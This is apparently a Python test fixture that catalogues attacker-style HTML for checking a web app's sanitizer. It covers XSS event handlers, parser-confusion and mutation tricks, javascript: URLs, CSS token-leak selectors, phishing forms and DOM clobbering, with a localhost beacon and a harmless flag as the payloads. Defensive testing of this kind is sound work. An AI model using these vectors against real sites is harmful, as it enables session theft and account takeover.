"""HTML as attackers write it, of our own collection, by what it tries. `CALL` is what must never run, `AWAY` a server
that must never be asked."""

CALL = "top.ran=1"
AWAY = "http://127.0.0.1:9/beacon"

HANDLERS = [
    f"<{tag} {event}={CALL}>x</{tag}>"
    for tag, event in (
        ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"), ("div", "onmouseover"), ("p", "onclick"),
        ("a", "onfocus"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("details open", "ontoggle"), ("marquee", "onstart"), ("marquee loop=1", "onfinish"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("object data=x", "onerror"), ("iframe src=about:blank", "onload"),
        ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("script src=x", "onerror"),
        ("div style=animation:x", "onanimationstart"), ("div style=transition:1s", "ontransitionend"),
        ("dialog open", "onclose"), ("div popover", "onbeforetoggle"), ("p contenteditable autofocus", "onfocusin"),
        ("div tabindex=1 autofocus", "onfocus"), ("div hidden=until-found", "onbeforematch"), ("x-y", "onclick"),
        ("xss autofocus tabindex=1", "onfocus"), ("p", "onscrollend"), ("p", "onpointerrawupdate"),
    )
]  # fmt: skip

BROKEN_TAGS = [
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x onerror\x0c=\x0c{CALL}>",
    f"<img src=x\x0bonerror={CALL}>",
    f"<IMG SRC=x OnErRoR={CALL}//",
    f"<img src=x onerror={CALL}",
    f"<<img src=x onerror={CALL}>",
    f"<img src='x' 'onerror={CALL}>' onerror={CALL}>",
    f'<img alt="`" src="` onerror={CALL}" onerror={CALL}>',
    f"<img src onerror /=({CALL})>",
    f"<img =x onerror={CALL} src=x>",
    f"<img\x00 src=x onerror={CALL}>",
    f"<im\x00g src=x onerror={CALL}>",
    f"</br/onload={CALL}><img src=x onerror={CALL}>",
    f"<p/\x22/title=\x22><img src=x onerror={CALL}>\x22>",
    f"<b title='</b><img src=x onerror={CALL}>'>x",
    f"<a title='&#39;><img src=x onerror={CALL}>'>x</a>",
    f"&lt;img src=x onerror={CALL}&gt;<!-- --!><img src=x onerror={CALL}> -->",
    f"<!--><img src=x onerror={CALL}>",
    f"<!-->\n<img src=x onerror={CALL}>-->",
    f"<!--a--!><img src=x onerror={CALL}>",
    f"<!-<img src=x onerror={CALL}>",
    f"<?php echo '<img src=x onerror={CALL}>' ?>",
    f"<![CDATA[ ]]><img src=x onerror={CALL}>",
    f"<!ENTITY x '<img src=x onerror={CALL}>'>",
    f"<%<!--'%><script>{CALL}</script -->",
]

SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<script type=module>{CALL}</script>",
    f"<script\x20type=text/ecmascript>{CALL}</script\x20>",
    f"<SCRIPT>{CALL}</SCRIPT\t>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script <b>{CALL}</script>",
    f"<script>\n<!--\n{CALL}\n//-->\n</script>",
    f"<script src='{AWAY}.js'></script>",
    f'<script type=importmap>{{"imports":{{"x":"{AWAY}.js"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AWAY}"]}}]}}</script>',
    f"<script nomodule>{CALL}</script><script async defer>{CALL}</script>",
    f"\ufeff<script>{CALL}</script>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
]

SVG = [
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href='data:text/javascript,{CALL}'/></svg>",
    f"<svg><script xlink:href={AWAY}.js></script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onend={CALL} attributeName=x dur=1ms>",
    f"<svg><a href='javascript:{CALL}'><text y=20>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{CALL}'/><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml;utf8,<svg id=x xmlns=http://www.w3.org/2000/svg onload={CALL}></svg>#x'/></svg>",  # noqa: E501 -- one attack
    f"<svg><image href='{AWAY}.png'/></svg>",
    f"<svg><feImage href='{AWAY}.png'/></svg>",
    f"<svg><style>@import '{AWAY}.css';</style></svg>",
    f"<svg><style><![CDATA[*{{background:url({AWAY})}}]]></style></svg>",
    f"<svg><foreignObject><body onload={CALL}></body></foreignObject></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></iframe></foreignObject></svg>",
    f"<svg><title><img src=x onerror={CALL}></title></svg>",
    f"<svg><desc><![CDATA[</desc><img src=x onerror={CALL}>]]></svg>",
    f"<svg xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{CALL}</x:script></svg>",
    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{CALL}</handler></svg>",
    f"<svg><discard onbegin={CALL}>",
    f"<svg><filter id=x><feImage xlink:href={AWAY} /></filter><rect filter=url(#x) /></svg>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>\">",
    f"<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dG9wLnJhbj0xPjwvc3ZnPg==' onload={CALL}>",
]

MUTATIONS = [
    f"<svg></p><style><a title='</style><img src=x onerror={CALL}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<math><mtext><mglyph><svg><mtext><style><path id='</style><img src=x onerror={CALL}>'>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={CALL}></style>",
    f"<math><annotation-xml encoding=application/xhtml+xml><svg><style>&lt;/style>&lt;img src=x onerror={CALL}>",
    f"<svg><annotation-xml><foreignobject><style><!--</style><p title='--><img src=x onerror={CALL}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<noembed><p title='</noembed><img src=x onerror={CALL}>'></noembed>",
    f"<noframes><p title='</noframes><img src=x onerror={CALL}>'></noframes>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'></xmp>",
    f"<plaintext></plaintext><img src=x onerror={CALL}>",
    f"<textarea><p title='</textarea><img src=x onerror={CALL}>'></textarea>",
    f"<title><p title='</title><img src=x onerror={CALL}>'></title>",
    f"<style><p title='</style><img src=x onerror={CALL}>'></style>",
    f"<iframe><p title='</iframe><img src=x onerror={CALL}>'></iframe>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={CALL}></template></div>",
    f"<select><template><img src=x onerror={CALL}></template></select>",
    f"<select><option><style></option></select><img src=x onerror={CALL}></style>",
    f"<table><a title='</table><img src=x onerror={CALL}>'><td>x</table>",
    f"<table><caption><svg><table><title><img src=x onerror={CALL}>",
    f"<p><svg><table><p><style><g title='</style><img src=x onerror={CALL}>'>",
    f"<a><svg><a><style><a title='</style><img src=x onerror={CALL}>'>",
    "<b>" * 600 + f"<svg><style><a title='</style><img src=x onerror={CALL}>'>",
    "<div>" * 520 + f"<table><svg><style><!--</style><img src=x onerror={CALL}>-->",
    f"<frameset><frame src='javascript:{CALL}'></frameset>",
    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    f"<image src=x onerror={CALL}>",
    f"<isindex prompt='<img src=x onerror={CALL}>'>",
    f"<command onclick={CALL}><keygen autofocus onfocus={CALL}>",
    f"<ruby><rt><svg><rp><style><i title='</style><img src=x onerror={CALL}>'>",
]

ADDRESSES = [
    f"<a href='{address}'>x</a><img src='{address}'><form action='{address}'></form>"
    for address in (
        f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"&#106;avascript:{CALL}", f"java&Tab;script:{CALL}",
        f"java&NewLine;script:{CALL}", f"\x01javascript:{CALL}", f"java\x00script:{CALL}", f"javascript&colon;{CALL}",
        f"javascript:&sol;&sol;%0a{CALL}", f"javascript://%0a{CALL}", f"&#0000000106avascript:{CALL}",
        f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=",
        f"data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>{CALL}</script></x>",
        "vbscript:msgbox(1)", "view-source:https://x.test", "blob:https://x.test/1", "filesystem:https://x.test/t/1",
        "file:///etc/passwd", "\\\\evil.test\\share\\x", "ms-word:ofe|u|https://evil.test/x.docx", "search-ms:query=x",
        "ms-officecmd:{}", "tel:*#06#<script>", "intent://evil#Intent;end", "chrome://settings", "about:srcdoc",
        "/desk/tickets/1/resolve/", "../../desk/", "?logout", "#/../", "https:/desk/", "http:desk/",
        "%6aavascript:top.ran=1", "jav\u00adascript:top.ran=1", "\u2028javascript:top.ran=1", "ｊavascript:top.ran=1",
    )
]  # fmt: skip

STYLES = [
    f'<p style="{style}">x</p>'
    for style in (
        f"background:url({AWAY})", f"background:url('{AWAY}')", f"background:u\\72l({AWAY})",
        f"background:URL\t({AWAY})",
        f"background:image-set('{AWAY}' 1x)", f"background:-webkit-cross-fade(url({AWAY}),url({AWAY}),1%)",
        f"list-style:url({AWAY})", f"list-style-image:url({AWAY})", f"content:url({AWAY})", f"cursor:url({AWAY}),auto",
        f"border-image:url({AWAY}) 1", f"mask:url({AWAY})", f"filter:url({AWAY}#x)", f"shape-outside:url({AWAY})",
        f"-moz-binding:url({AWAY}#x)", f"behavior:url({AWAY})", f"--x:url({AWAY});background:var(--x)",
        "background:attr(title url)", f"font-family:x;src:url({AWAY})", f"color:red;}}*{{background:url({AWAY})}}",
        f"width:expression({CALL})", f"width:ex/**/pression({CALL})", f"@import '{AWAY}'", f"offset-path:url({AWAY})",
        "position:fixed;inset:0;z-index:2147483647", "position:absolute;top:-999px", "position:sticky;top:0",
        "margin:-9999px", "transform:scale(99)", "translate:0 -500px", "float:left;shape-margin:99em",
        "pointer-events:none", "animation:spin 1s infinite", "view-transition-name:root", "anchor-name:--x",
        "display:none}</style><script>top.ran=1</script>", "background:\\75\\72\\6c(http://127.0.0.1:9/beacon)",
        "clip-path:inset(0)", "content-visibility:hidden", "zoom:9", "all:unset", "opacity:0;position:fixed",
    )
]  # fmt: skip

LOADING = [
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "<meta http-equiv=Set-Cookie content='firstline_session=1'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href='{AWAY}/'><a href=x>x</a><img src=x>",
    "<base target=_top>",
    f"<link rel=stylesheet href='{AWAY}.css'>",
    f"<link rel=preload as=image href='{AWAY}.png'>",
    f"<link rel=dns-prefetch href='//evil.test'><link rel=preconnect href='{AWAY}'>",
    f"<link rel=manifest href='{AWAY}'><link rel=icon href='{AWAY}'>",
    f"<style>@import url({AWAY}.css);@font-face{{font-family:x;src:url({AWAY})}}*{{background:url({AWAY})}}</style>",
    f"<style>input[name=csrfmiddlewaretoken][value^=a]{{background:url({AWAY})}}</style>",
    f"<iframe src='{AWAY}'></iframe><iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data='{AWAY}'></object><embed src='{AWAY}'><applet code=x archive='{AWAY}'></applet>",
    f"<picture><source srcset='{AWAY} 1x'></picture><img srcset='{AWAY} 2x' sizes=1px>",
    f"<img src='{AWAY}' lowsrc='{AWAY}' dynsrc='{AWAY}' longdesc='{AWAY}' usemap=#x>",
    f"<img src='//127.0.0.1:9/beacon'><img src=' {AWAY}'><img src='http:/\\127.0.0.1:9\\beacon'>",
    f"<video src='{AWAY}' poster='{AWAY}' autoplay></video><audio src='{AWAY}' autoplay></audio>",
    f"<track src='{AWAY}'><bgsound src='{AWAY}'><source src='{AWAY}'>",
    f"<body background='{AWAY}'><table background='{AWAY}'><tr><td background='{AWAY}'>x</table>",
    f"<a href='{AWAY}' ping='{AWAY}' download=x.exe target=_top rel=opener>x</a>",
    f"<map name=x><area href='javascript:{CALL}' shape=rect coords=0,0,99,99></map>",
    f"<portal src='{AWAY}'></portal><fencedframe src='{AWAY}'></fencedframe><webview src='{AWAY}'></webview>",
    f"<html manifest='{AWAY}'><xml src='{AWAY}' id=x></xml>",
    f"<q cite='{AWAY}'>x</q><del cite='{AWAY}'>x</del><img crossorigin src='{AWAY}'>",
]

FORMS = [
    f"<form action='{AWAY}' method=post><input name=password type=password><button>Sign in</button></form>",
    "<form action='/desk/tickets/1/resolutions/' method=post><button style='position:fixed;inset:0'>x</button></form>",
    f"<button form=reply formaction='{AWAY}'>x</button><input form=reply name=csrfmiddlewaretoken value=x>",
    f"<input type=image src='{AWAY}' formaction='javascript:{CALL}'>",
    f"<isindex action='{AWAY}'><select onchange={CALL}><option>x</select>",
    "<textarea form=reply name=text>I resign.</textarea><output for=x form=reply>x</output>",
    f"<label for=send>x</label><fieldset form=reply disabled></fieldset><object form=reply data='{AWAY}'></object>",
    f"</form></main></body></html><form action='{AWAY}'>",
]

OURS = [
    f"<{tag} {attribute}>x</{tag}>"
    for tag in ("div", "a", "span")
    for attribute in (
        "hx-get=/desk/ hx-trigger=load", "data-hx-post=/account/logout/ hx-trigger=load", "hx-on:load='top.ran=1'",
        "hx-on--after-init='top.ran=1'", "hx-vals='js:{x:top.ran=1}'", "hx-swap-oob=true id=main",
        "data-controller=composer data-action='click->composer#send'", "data-turbo-action=x data-turbo-frame=_top",
        "data-hotkey=r", "data-csrf=x", "x-data x-init='top.ran=1'", "v-html=x @click=top.ran=1", "ng-app ng-csp",
        "_='on load set top.ran to 1'", "data-bind='text: top.ran=1'", "is=x-y", "popovertarget=menu", "slot=x part=y",
        "commandfor=menu command=show-modal", "accesskey=r tabindex=1",
        "class='toast danger' role=alert aria-live=assertive",
    )
]  # fmt: skip

CLOBBERS = [
    f"<{tag} {attribute}={name}>x</{tag}>"
    for tag in ("a", "form", "img", "input", "object")
    for attribute in ("id", "name")
    for name in ("ran", "cookie", "body", "htmx", "getElementById", "main", "csrfmiddlewaretoken")
]

EVERYTHING = {
    "handlers": HANDLERS,
    "broken tags": BROKEN_TAGS,
    "scripts": SCRIPTS,
    "svg": SVG,
    "mutations": MUTATIONS,
    "addresses": ADDRESSES,
    "styles": STYLES,
    "loading": LOADING,
    "forms": FORMS,
    "our own attributes": OURS,
    "clobbering": CLOBBERS,
}
